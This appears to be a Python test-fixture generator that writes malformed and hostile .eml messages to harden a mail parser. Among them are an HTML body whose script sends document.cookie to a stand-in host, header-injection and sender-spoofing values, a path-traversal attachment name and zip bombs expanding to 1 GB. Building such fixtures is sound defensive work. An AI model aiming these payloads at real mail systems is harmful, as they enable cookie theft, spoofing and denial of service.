#!/usr/bin/env python3
"""Write the hostile and odd mail corpus used by tests/test_hostile_mail.py.

Usage: tools/make_hostile_corpus.py [OUT_DIR] [--big BIG_DIR]

Every message is synthetic (no real patient, no real sender) and small, so
the files under tests/data/mail/ can be committed; ``--big`` (or
``big_messages``) writes the multi-megabyte ones (a 50 MB attachment, a zip
bomb that expands to 1 GB) into a scratch folder at test time instead.  Each
builder is a function returning bytes; the file name says what it abuses.
"""
from __future__ import annotations

import argparse
import base64
import io
import sys
import zipfile
from pathlib import Path
from typing import Callable

OUT = Path(__file__).resolve().parents[1] / "tests" / "data" / "mail"
BODY = b"Laparoscopic cholecystectomy with intraoperative cholangiogram. Please advise codes."
HEAD = b"From: coder@clinic.test\r\nTo: cases@consultant.test\r\nMessage-ID: <%s@hostile.test>\r\n"


def _head(name: str, extra: bytes = b"") -> bytes:
    return HEAD % name.encode() + extra


def _simple(name: str, headers: bytes, body: bytes = BODY) -> bytes:
    return _head(name) + headers + b"\r\n" + body + b"\r\n"


def _multipart(name: str, boundary: bytes, parts: list[bytes], close: bool = True, extra: bytes = b"") -> bytes:
    out = _head(name, extra) + b"Subject: multipart\r\nMIME-Version: 1.0\r\n"
    out += b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n'
    for part in parts:
        out += b"--" + boundary + b"\r\n" + part + b"\r\n"
    return out + (b"--" + boundary + b"--\r\n" if close else b"")


TEXT_PART = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + BODY


def _nested(name: str, depth: int, same_boundary: bool = False) -> bytes:
    inner = TEXT_PART
    for level in range(depth):
        b = b"b" if same_boundary else b"lvl%d" % level
        inner = (b'Content-Type: multipart/mixed; boundary="' + b + b'"\r\n\r\n--' + b + b"\r\n"
                 + inner + b"\r\n--" + b + b"--")
    return _head(name) + b"Subject: nested\r\nMIME-Version: 1.0\r\n" + inner + b"\r\n"


def _rfc822_loop(name: str, depth: int) -> bytes:
    inner = b"From: inner@clinic.test\r\nSubject: inner\r\n\r\n" + BODY
    for _ in range(depth):
        inner = (b"From: fwd@clinic.test\r\nSubject: Fwd\r\nMIME-Version: 1.0\r\n"
                 b'Content-Type: multipart/mixed; boundary="r"\r\n\r\n--r\r\n'
                 b"Content-Type: message/rfc822\r\n\r\n" + inner + b"\r\n--r--")
    return _head(name) + inner.split(b"\r\n", 1)[1] + b"\r\n"


def _attachment(name: str, filename: bytes, ctype: bytes, data: bytes, cte: bytes = b"base64") -> bytes:
    payload = base64.encodebytes(data) if cte == b"base64" else data
    part = (b"Content-Type: " + ctype + b"\r\nContent-Disposition: attachment; filename=\"" + filename
            + b"\"\r\nContent-Transfer-Encoding: " + cte + b"\r\n\r\n" + payload)
    return _multipart(name, b"att", [TEXT_PART, part])


def zip_bomb(expanded: int, member: str = "word/document.xml", level: int = 9) -> bytes:
    """A small .docx-shaped zip whose one member expands to ``expanded`` bytes
    (level 1 is much faster for the 1 GB one, at about 4:1 less compression)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open(member, "w", force_zip64=True) as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(expanded >> 20):
                fh.write(chunk)
    return buf.getvalue()


def _pdf(text: str) -> bytes:
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    pdf = canvas.Canvas(buf)
    pdf.drawString(72, 720, text)
    pdf.save()
    return buf.getvalue()


DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document".encode()


def builders() -> dict[str, Callable[[], bytes]]:
    b: dict[str, Callable[[], bytes]] = {}
    # --- MIME structure -------------------------------------------------
    b["boundary_never_closed"] = lambda: _multipart("bnc", b"open", [TEXT_PART], close=False)
    b["boundary_never_appears"] = lambda: _head("bna") + b'Subject: x\r\nContent-Type: multipart/mixed; boundary="zzz"\r\n\r\n' + BODY
    b["boundary_empty"] = lambda: _head("be") + b'Subject: x\r\nContent-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n' + TEXT_PART + b"\r\n----\r\n"
    b["boundary_missing_param"] = lambda: _head("bmp") + b"Subject: x\r\nContent-Type: multipart/mixed\r\n\r\n" + BODY
    b["boundary_300_chars"] = lambda: _multipart("b300", b"x" * 300, [TEXT_PART])
    b["boundary_in_body_text"] = lambda: _multipart("bib", b"cut", [TEXT_PART + b"\r\n--cutting remark --cut"])
    b["boundary_mismatched_nested"] = lambda: _multipart("bmn", b"outer", [
        b'Content-Type: multipart/alternative; boundary="inner"\r\n\r\n--inner\r\n' + TEXT_PART + b"\r\n--wrong--"])
    b["nesting_100_levels"] = lambda: _nested("n100", 100)
    b["nesting_100_same_boundary"] = lambda: _nested("n100s", 100, same_boundary=True)
    b["nesting_2000_levels"] = lambda: _nested("n2000", 2000)
    b["parts_250"] = lambda: _multipart("p250", b"many", [TEXT_PART] * 250)
    b["parts_150"] = lambda: _multipart("p150", b"many", [b"Content-Type: text/plain\r\n\r\npart"] * 150)
    b["rfc822_loop_30"] = lambda: _rfc822_loop("r30", 30)
    b["rfc822_loop_5"] = lambda: _rfc822_loop("r5", 5)
    b["rfc822_truncated"] = lambda: _multipart("rt", b"m", [TEXT_PART, b"Content-Type: message/rfc822\r\n\r\nFrom: x"])
    b["content_type_no_subtype"] = lambda: _simple("cns", b"Subject: x\r\nContent-Type: text\r\n")
    b["content_type_garbage"] = lambda: _simple("ctg", b"Subject: x\r\nContent-Type: ;;;===\"\"\"/\r\n")
    b["mime_version_missing_multipart"] = lambda: _multipart("mvm", b"q", [TEXT_PART]).replace(b"MIME-Version: 1.0\r\n", b"")
    b["multipart_signed"] = lambda: _head("ms") + b'Subject: signed\r\nMIME-Version: 1.0\r\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary="s"\r\n\r\n--s\r\n' + TEXT_PART + b"\r\n--s\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIB!!notbase64\r\n--s--\r\n"
    # --- charsets and encodings -----------------------------------------
    b["charset_undeclared_latin1"] = lambda: _simple("cul", b"Subject: x\r\n", "R\u00e9sum\u00e9: ".encode("latin-1") + BODY)
    b["charset_lying_utf8_is_latin1"] = lambda: _simple("clu", b"Subject: x\r\nContent-Type: text/plain; charset=utf-8\r\n", "Caf\u00e9 \u00fc ".encode("latin-1") + BODY)
    b["charset_lying_ascii_is_utf8"] = lambda: _simple("cla", b"Subject: x\r\nContent-Type: text/plain; charset=us-ascii\r\n", "na\u00efve \u2013 ".encode() + BODY)
    b["charset_unknown_name"] = lambda: _simple("cun", b"Subject: x\r\nContent-Type: text/plain; charset=x-klingon-8\r\n")
    b["charset_utf16_declared_ascii_body"] = lambda: _simple("cu16", b"Subject: x\r\nContent-Type: text/plain; charset=utf-16\r\n")
    b["charset_utf7"] = lambda: _simple("cu7", b"Subject: x\r\nContent-Type: text/plain; charset=utf-7\r\n", b"+AGEAYgBj- +ZeVnLIqe- " + BODY)
    b["charset_param_twice"] = lambda: _simple("cpt", b"Subject: x\r\nContent-Type: text/plain; charset=utf-8; charset=koi8-r\r\n")
    b["charset_bom_utf8"] = lambda: _simple("bom", b"Subject: x\r\nContent-Type: text/plain; charset=utf-8\r\n", b"\xef\xbb\xbf" + BODY)
    b["invalid_utf8_everywhere"] = lambda: _simple("iu8", b"Subject: \xff\xfe\xc3\x28 subj\r\nX-Junk: \xed\xa0\x80\r\n", b"\xc3\x28\xa0\xa1" + BODY)
    b["raw_8bit_utf8_headers"] = lambda: _simple("r8", "Subject: Frage zur Kodierung \u00fc\u00e4\u00f6 \u2014 \u6e2c\u8a66\r\n".encode())
    b["base64_invalid_chars"] = lambda: _simple("b64", b"Subject: x\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n", b"!!!***###" + base64.b64encode(BODY)[:-3] + b"%%")
    b["quoted_printable_broken"] = lambda: _simple("qpb", b"Subject: x\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n", b"Lap=ZZaroscopic chole=\r\ncystectomy =E2=80 =\r\n")
    b["cte_unknown"] = lambda: _simple("cteu", b"Subject: x\r\nContent-Transfer-Encoding: x-rot13-gzip\r\n")
    b["uuencode_body"] = lambda: _simple("uu", b"Subject: x\r\nContent-Transfer-Encoding: x-uuencode\r\n", b"begin 644 note.txt\r\n#86)C\r\n`\r\nend\r\n")
    # --- encoded-word abuse ---------------------------------------------
    b["encoded_words_199"] = lambda: _simple("ew199", b"Subject: " + b" ".join([b"=?utf-8?q?a?="] * 199) + b"\r\n")
    b["encoded_words_5000"] = lambda: _simple("ew5000", b"Subject: " + b"\r\n ".join([b"=?utf-8?q?a?="] * 5000) + b"\r\n")
    b["encoded_word_bogus_charset"] = lambda: _simple("ewbc", b"Subject: =?x-bogus?Q?Caf=E9?= =?utf-8?B?!!!?=\r\n")
    b["encoded_word_bad_base64"] = lambda: _simple("ewbb", b"Subject: =?utf-8?B?QUJD=?= =?utf-8?B?A?= =?utf-8?Q?=ZZ?=\r\n")
    b["encoded_word_crlf_injection"] = lambda: _simple("ewcr", b"Subject: =?utf-8?Q?Hello=0D=0ABcc:_victim@else.test=0D=0A?=\r\n")
    b["encoded_word_from_display"] = lambda: _simple("ewfd", b"Subject: x\r\n").replace(b"From: coder@clinic.test", b"From: =?utf-8?B?Q29kZXINCkJjYzogeEB5LnRlc3Q=?= <coder@clinic.test>")
    b["encoded_word_address_inside"] = lambda: _simple("ewai", b"Subject: x\r\n").replace(b"From: coder@clinic.test", b"From: =?utf-8?Q?evil=40attacker.test?= <coder@clinic.test>")
    # --- headers --------------------------------------------------------
    b["headers_1000"] = lambda: _simple("h1000", b"".join(b"X-H%d: v\r\n" % i for i in range(1000)) + b"Subject: x\r\n")
    b["headers_450"] = lambda: _simple("h450", b"".join(b"X-H%d: v\r\n" % i for i in range(450)) + b"Subject: x\r\n")
    b["header_300kb"] = lambda: _simple("h300k", b"Subject: x\r\nX-Big: " + b"a" * (300 << 10) + b"\r\n")
    b["subject_10000_chars"] = lambda: _simple("s10k", b"Subject: " + b"long " * 2000 + b"\r\n")
    b["header_without_colon"] = lambda: _simple("hwc", b"Subject: x\r\nthis line has no colon\r\n")
    b["header_name_with_space"] = lambda: _simple("hns", b"Subject : spaced\r\nFrom : other@else.test\r\n")
    b["header_folding_blank"] = lambda: _simple("hfb", b"Subject: a\r\n \r\n \r\n b\r\n")
    b["two_from_headers"] = lambda: _simple("tfh", b"From: evil@attacker.test\r\nSubject: x\r\n")
    b["no_from_header"] = lambda: _simple("nfh", b"Subject: x\r\n").replace(b"From: coder@clinic.test\r\n", b"")
    b["from_group_syntax"] = lambda: _simple("fgs", b"Subject: x\r\n").replace(b"From: coder@clinic.test", b"From: undisclosed-recipients:;")
    b["from_two_addresses"] = lambda: _simple("fta", b"Subject: x\r\n").replace(b"From: coder@clinic.test", b"From: coder@clinic.test, evil@attacker.test")
    b["from_unbalanced_brackets"] = lambda: _simple("fub", b"Subject: x\r\n").replace(b"From: coder@clinic.test", b'From: "Dr. <Who" <<coder@clinic.test>')
    b["reply_to_elsewhere"] = lambda: _simple("rte", b"Subject: x\r\nReply-To: harvest@attacker.test\r\n")
    b["message_id_huge"] = lambda: _simple("mih", b"Subject: x\r\n").replace(b"Message-ID: <mih@hostile.test>", b"Message-ID: <" + b"m" * 5000 + b"@hostile.test>")
    b["message_id_missing"] = lambda: _simple("mim", b"Subject: x\r\n").replace(b"Message-ID: <mim@hostile.test>\r\n", b"")
    b["date_invalid"] = lambda: _simple("di", b"Subject: x\r\nDate: Thu, 45 Smarch 99999 99:99:99 +9999\r\n")
    b["auto_submitted_uppercase"] = lambda: _simple("asu", b"Subject: x\r\nAuto-Submitted: AUTO-REPLIED\r\n")
    b["dsn_bounce_null_return_path"] = lambda: (_head("dsn") + b"Return-Path: <>\r\nSubject: Delivery Status\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=\"d\"\r\n\r\n--d\r\nContent-Type: text/plain\r\n\r\nUndeliverable\r\n--d--\r\n").replace(b"coder@clinic.test", b"postmaster@mx.clinic.test")
    # --- bytes and line endings -----------------------------------------
    b["nul_bytes_body"] = lambda: _simple("nulb", b"Subject: x\r\n", b"Lap\x00aroscopic\x00\x00 " + BODY)
    b["nul_bytes_headers"] = lambda: _simple("nulh", b"Subject: a\x00b\r\nX-Null: \x00\x00\r\n")
    b["bare_cr_line_endings"] = lambda: _simple("bcr", b"Subject: x\r\n").replace(b"\r\n", b"\r")
    b["bare_lf_line_endings"] = lambda: _simple("blf", b"Subject: x\r\n").replace(b"\r\n", b"\n")
    b["mixed_line_endings"] = lambda: _head("mle") + b"Subject: x\n\rX-A: y\r\r\n\n" + BODY + b"\r\r\n"
    b["crlf_in_subject_folded"] = lambda: _simple("cis", b"Subject: hello\r\nBcc: victim@else.test\r\n")
    b["empty_message"] = lambda: b""
    b["only_headers_no_blank"] = lambda: _head("ohnb") + b"Subject: only headers"
    b["only_body_no_headers"] = lambda: b"\r\n" + BODY
    b["binary_garbage"] = lambda: bytes(range(256)) * 40
    b["long_line_1mb"] = lambda: _simple("ll", b"Subject: x\r\n", BODY + b" " + b"word " * 200_000)
    # --- HTML -----------------------------------------------------------
    b["html_script_handlers"] = lambda: _simple("hsh", b"Subject: x\r\nContent-Type: text/html\r\n",
        b"<html><body onload=\"steal()\"><script>document.location='http://x.test/'+document.cookie</script>"
        b"<p>" + BODY + b"</p><a href=\"javascript:alert(1)\">click</a><img src=x onerror=alert(2)>"
        b"<iframe src=\"http://attacker.test\"></iframe><style>p{x:expression(alert(3))}</style></body></html>")
    b["html_unclosed_tags"] = lambda: _simple("hut", b"Subject: x\r\nContent-Type: text/html\r\n", b"<div><div><div><table><tr><td>" * 500 + BODY)
    b["html_entity_bomb"] = lambda: _simple("heb", b"Subject: x\r\nContent-Type: text/html\r\n", b"&amp;" * 50_000 + b"<p>" + BODY)
    # --- attachments ----------------------------------------------------
    b["docx_zip_bomb_150mb"] = lambda: _attachment("zb", b"note.docx", DOCX, zip_bomb(150 << 20))
    b["docx_not_a_zip"] = lambda: _attachment("dnz", b"note.docx", DOCX, b"PK\x03\x04 this is not really a zip")
    b["pdf_corrupt"] = lambda: _attachment("pc", b"note.pdf", b"application/pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer<<>>%%EOF" + bytes(range(256)))
    b["pdf_lying_type"] = lambda: _attachment("plt", b"note.pdf", b"application/octet-stream", _pdf("OPERATIVE NOTE: cholecystectomy"))
    b["pdf_as_text_plain"] = lambda: _attachment("ptp", b"note.txt", b"text/plain", _pdf("hidden"))
    b["filename_path_traversal"] = lambda: _attachment("fpt", b"../../../../etc/passwd", b"text/plain", b"root:x:0:0")
    b["filename_rfc2231_bogus"] = lambda: _multipart("f2231", b"f", [TEXT_PART, b"Content-Type: text/plain\r\nContent-Disposition: attachment; filename*=x-bogus''%FF%FE%00evil.txt\r\n\r\nhello"])
    b["tnef_winmail"] = lambda: _attachment("tnef", b"winmail.dat", b"application/ms-tnef", b"\x78\x9f\x3e\x22" + b"\x00" * 200)
    b["calendar_invite"] = lambda: _attachment("cal", b"invite.ics", b"text/calendar", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", b"7bit")
    return b


def big_messages() -> dict[str, Callable[[], bytes]]:
    """Too big to commit: made at test time."""
    return {
        "attachment_50mb": lambda: _attachment("a50", b"scan.pdf", b"application/pdf", b"%PDF-1.4\n" + b"\x00" * (50 << 20)),
        "docx_zip_bomb_1gb": lambda: _attachment("zb1g", b"huge.docx", DOCX, zip_bomb(1 << 30, level=1)),
    }


def write(folder: Path, which: dict[str, Callable[[], bytes]]) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, build in sorted(which.items()):
        path = folder / f"{name}.eml"
        path.write_bytes(build())
        paths.append(path)
    return paths


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", nargs="?", type=Path, default=OUT)
    parser.add_argument("--big", type=Path, help="also write the big messages here")
    args = parser.parse_args(argv)
    paths = write(args.out, builders())
    if args.big:
        paths += write(args.big, big_messages())
    print(f"wrote {len(paths)} messages")
    return 0


if __name__ == "__main__":
    sys.exit(main())
